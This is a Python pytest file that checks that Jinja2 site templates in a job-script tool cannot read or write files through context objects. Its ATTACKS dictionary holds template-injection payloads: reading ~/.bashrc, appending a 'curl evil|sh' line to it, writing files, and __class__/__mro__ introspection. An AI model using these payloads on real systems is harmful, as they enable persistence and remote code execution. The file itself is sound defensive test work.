"""A site template must not reach files: the Jinja2 sandbox is no boundary by itself.

Every object in the template context is plain data; a template that tries to read or write a
file through it (the review's attack read and appended to the user's ~/.bashrc during
``submit --dry-run``) fails with a clean ConfigError and touches nothing.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_render import _render, _site_with_templates

from clusterjob.errors import ConfigError
from clusterjob.jobscript.render import TemplateRecord, template_value
from clusterjob.site.nodemodel import OnError

ATTACKS = {
    "read ~/.bashrc": "{{ site.source.home().joinpath('.bashrc').read_text() }}",
    "append to ~/.bashrc": (
        "{{ site.source.home().joinpath('.bashrc').open('a').write('curl evil|sh\\n') }}"
    ),
    "write through templates_dir": "{{ site.templates_dir.joinpath('x').write_text('x') }}",
    "read through the model": "{{ job.model.__class__ }}",
    "read through the request": "{{ request.script.__class__.__mro__ }}",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_template_cannot_read_or_write_files_through_the_context(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    site = _site_with_templates(tmp_path, "#!/bin/bash\n" + text + "\n")
    with pytest.raises(ConfigError) as info:
        _render(site, model="A100")
    (issue,) = info.value.issues
    assert issue.line == 2
    assert bashrc.read_text() == "# mine\n"
    assert not (tmp_path / "site-templates" / "x").exists()


def test_context_holds_plain_values_only(tmp_path: Path) -> None:
    site = _site_with_templates(
        tmp_path,
        "#!/bin/bash\n{{ site.source }}|{{ site.templates_dir }}|{{ site.prolog.on_error }}\n",
    )
    script = _render(site, model="A100").script
    assert script.splitlines()[1].endswith(f"|{tmp_path / 'site-templates'}|drain")

    allowed = (type(None), bool, int, float, str, TemplateRecord)

    def walk(value: object, depth: int = 0) -> None:
        assert isinstance(value, (*allowed, list, tuple, dict)), type(value)
        if depth > 6:
            return
        if isinstance(value, TemplateRecord):
            for name in value._fields:
                walk(getattr(value, name), depth + 1)
        elif isinstance(value, (list, tuple)):
            for v in value[:3]:
                walk(v, depth + 1)
        elif isinstance(value, dict):
            for v in list(value.values())[:3]:
                walk(v, depth + 1)

    walk(template_value(site))
    assert template_value(OnError.PASS) == "pass"
